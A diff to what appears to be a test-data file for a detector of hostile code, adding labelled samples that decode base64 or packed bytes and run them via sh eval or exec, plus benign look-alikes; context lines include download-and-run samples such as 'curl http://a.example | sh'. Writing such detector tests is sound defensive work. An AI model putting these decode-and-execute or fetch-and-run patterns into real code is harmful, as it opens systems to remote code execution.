@@ -117,6 +117,18 @@ DOES: list[tuple[str, str]] = [
     ),
     ("unreadable-code", "import subprocess, sys\nsubprocess.run([sys.executable, '-c', make()])"),
     (
+        "runs-decoded-code",
+        "import base64, subprocess\nsubprocess.run(['sh', '-c', 'eval \"$X\"'], "
+        "env={'X': base64.b64decode(x)})",
+    ),
+    (
+        "runs-decoded-code",
+        "import base64, subprocess, sys\nclass Probe:\n    code = 'load(\"__at__\")'\n"
+        "subprocess.run([sys.executable, '-c', Probe.code.replace('__at__', base64.b64decode(x))])",
+    ),
+    ("runs-decoded-code", "import struct\nexec(struct.pack('24s', x))"),
+    ("runs-decoded-code", "import struct\nexec(struct.pack('9Q', *x))"),
+    (
         "runs-downloaded-code",
         "import sys, requests\nsys.path.insert(0, requests.get('https://a.example').text)",
     ),
@@ -264,6 +276,13 @@ DOES: list[tuple[str, str]] = [
 ]
 
 HONEST = [
+    # What is evaluated is mostly a number, or no text at all.
+    "import sympy\ndef ceil(a, b):\n    return sympy.sympify(a) / sympy.sympify(b)\nceil(n, 8)",
+    # A file that is named after what is in it, and what a program's environment holds.
+    "import base64, hashlib, subprocess\nname = hashlib.sha256(base64.b64decode(x)).hexdigest()\n"
+    "subprocess.run(['gcc', '-c', name])",
+    "import base64, subprocess\nsubprocess.run(['gcc', '-v'], env={'X': base64.b64decode(x)})",
+    "import struct, subprocess\nsubprocess.run(['dd', struct.pack('<qI', 1, 2)])",
     # It waits to be called.
     "import requests\ndef update():\n    exec(requests.get('https://a.example').text)",
     "import functools, os\n@functools.cache\ndef f():\n    os.system('curl http://a.example | sh')",
